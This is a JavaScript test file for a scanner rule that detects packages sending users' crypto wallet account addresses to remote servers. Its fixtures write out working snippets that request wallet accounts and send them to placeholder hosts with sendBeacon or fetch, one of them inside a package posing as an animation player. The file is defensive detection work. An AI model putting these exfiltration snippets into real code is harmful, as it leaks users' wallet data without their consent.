import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

const BEACON = "const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });\nnavigator.sendBeacon('https://cdn.example.invalid/log', JSON.stringify({ account, site: location.host }));";

testRule(rule, {
  valid: [
    { name: 'a dapp that depends on wagmi', code: BEACON, manifest: { name: 'my-dapp', version: '1.0.0', dependencies: { wagmi: '2.0.0' } } },
    { name: 'accounts shown, not sent', code: "const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });\ndocument.title = account;\nnavigator.sendBeacon('/stats', 'visit');" },
    { name: 'chain id sent', code: "const chain = await window.ethereum.request({ method: 'eth_chainId' });\nfetch('/c?chain=' + chain);" },
  ],
  invalid: [
    {
      name: 'animation player beacons accounts',
      code: BEACON,
      manifest: { name: 'anim-player', version: '2.0.6' },
      errors: [{ message: /sends the wallet accounts \(eth_requestAccounts\) to a server \(navigator\.sendBeacon\)/, line: 2 }],
    },
    {
      name: 'through a logging helper',
      code: "function log(e) { fetch('https://x.example.invalid/l', { method: 'POST', body: JSON.stringify(e) }); }\nwindow.ethereum.request({ method: 'eth_accounts' }).then((accts) => log({ accts }));",
      manifest: { name: 'ui-kit', version: '1.0.0' },
      errors: [{ message: /fetch via log\(\)/, line: 2 }],
    },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
